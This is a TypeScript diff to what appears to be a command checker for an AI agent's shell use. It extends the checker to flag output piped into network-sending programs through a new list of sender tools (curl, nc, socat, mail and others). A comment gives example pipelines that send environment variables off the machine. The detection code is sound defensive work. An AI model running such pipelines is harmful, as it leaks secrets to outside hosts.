@@ -42,8 +42,8 @@ const PASS_THROUGH = new Set(['cat', 'tee', 'base64', 'base32', 'basenc', 'xxd',
   'pr', 'expand', 'unexpand', 'envsubst', 'openssl', 'python', 'python3', 'node', 'perl', 'ruby', 'xargs', 'tr', 'dd']);
 
 /**
- * Whether what the command prints reaches the agent: it is not piped, or piped through a program
- * that passes it on. `| grep NODE` narrows it (the grep rules judge that), `| docker login
+ * Whether what the command prints reaches the agent or leaves the machine: it is not piped, or
+ * piped through a program that passes it on or sends it. `| grep NODE` narrows it (the grep rules judge that), `| docker login
  * --password-stdin` consumes it, and `| cut -d= -f1` or `| awk -F= '{print $1}'` keeps only names.
  */
 export function printedThrough(c: Pick<SimpleCommand, 'pipedOut' | 'pipedInto'>): boolean {
@@ -51,5 +51,8 @@ export function printedThrough(c: Pick<SimpleCommand, 'pipedOut' | 'pipedInto'>)
   const next = (c.pipedInto ?? '').trim();
   const program = (next.split(/\s+/)[0] ?? '').replace(/^.*\//, '');
   if (/^(?:cut\s.*-f\s*1\b(?!\s*[-,])|awk\s.*\{\s*print\s+\$1\s*\})/.test(next)) return false;
-  return PASS_THROUGH.has(program);
+  return PASS_THROUGH.has(program) || SENDERS.has(program);
 }
+
+/** Programs that send what they read off the machine (`env | curl -d @- https://…`, `printenv | nc host 80`). */
+const SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'http', 'https', 'xh', 'xhs', 'mail', 'sendmail', 'mutt']);
